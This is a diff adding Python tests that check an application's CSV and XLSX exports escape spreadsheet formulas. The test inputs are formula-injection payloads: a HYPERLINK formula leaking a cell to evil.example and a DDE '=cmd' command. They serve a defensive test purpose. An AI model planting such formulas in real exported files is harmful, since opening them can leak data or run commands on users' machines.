@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import ast
+import csv
 import gzip
 import io
 import json
@@ -26,6 +28,7 @@ from astara.db.models import ImportJob, SeizureEvent, SeizureItem
 from astara.errors import ImportFailed, InvalidInput
 from astara.imports.readers import open_source
 from astara.kit.limits import ReadLimits
+from astara.kit.spreadsheet import FORMULA_STARTS
 from fixtures.make import IDS_HEADER, ids_row, import_file, write_ids
 
 SRC = Path(__file__).resolve().parents[2] / "src"
@@ -293,3 +296,51 @@ def test_the_form_refuses_an_impossible_quantity(api_client: TestClient) -> None
     answer = api_client.post("/seizures/new", data=data)
     assert answer.status_code == 422 and "the most one item may hold" in answer.text
     assert api_client.get("/api/seizures").json()["total"] == 0
+
+
+# -- formulas in written cells -------------------------------------------------------------------
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def test_the_rejects_file_escapes_formulas(engine: Engine, scope: Scope, tmp_path: Path) -> None:
+    header = [*IDS_HEADER, "=cmd|' /C calc'!A0"]  # an extra column the mapping does not use
+    rows = [[*ids_row(), "x"], [*ids_row(PLACE=FORMULA, DRUG_NAME="@SUM(1+1)"), "-2+3"]]
+    path = tmp_path / "ids.csv"
+    path.write_text("\n".join(";".join(r) for r in [header, *rows]) + "\n", encoding="utf-8")
+    rejects = tmp_path / "rejects.csv"
+    import_file(engine, scope, path, keep_valid=True, rejects_path=rejects)
+    with rejects.open(encoding="utf-8", newline="") as f:
+        written = list(csv.reader(f))
+    cells = [cell for row in written for cell in row]
+    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
+    assert "'=cmd|' /C calc'!A0" in written[0]
+    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
+
+
+def test_exports_escape_formulas_in_csv_and_xlsx(api_client: TestClient, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    body = {"reference": "=1+2", "date": "2016-05-03", "country": "AZ", "notes": FORMULA,
+            "items": [{"drug": "heroin", "quantity": 12, "unit": "kg"}]}  # fmt: skip
+    assert api_client.post("/api/seizures", json=body).status_code == 201
+    text = api_client.get("/api/export", params={"format": "csv"}).text
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    assert "'=1+2" in cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
+    sheet = load_workbook(io.BytesIO(api_client.get("/api/export", params={"format": "xlsx"}).content))
+    values = [c for row in sheet.active.iter_rows(values_only=True) for c in row if isinstance(c, str)]
+    assert "'=1+2" in values and not [c for c in values if c.startswith(FORMULA_STARTS)]
+
+
+def test_every_csv_writer_goes_through_the_escaping_one() -> None:
+    """Only kit/spreadsheet.py makes a csv.writer: every other writer escapes its cells through it."""
+    found = []
+    for path in (SRC / "astara").rglob("*.py"):
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            if (
+                isinstance(node, ast.Attribute)
+                and node.attr in ("writer", "DictWriter")
+                and isinstance(node.value, ast.Name)
+                and node.value.id == "csv"
+            ):
+                found.append(str(path.relative_to(SRC)))
+    assert found == ["astara/kit/spreadsheet.py"]
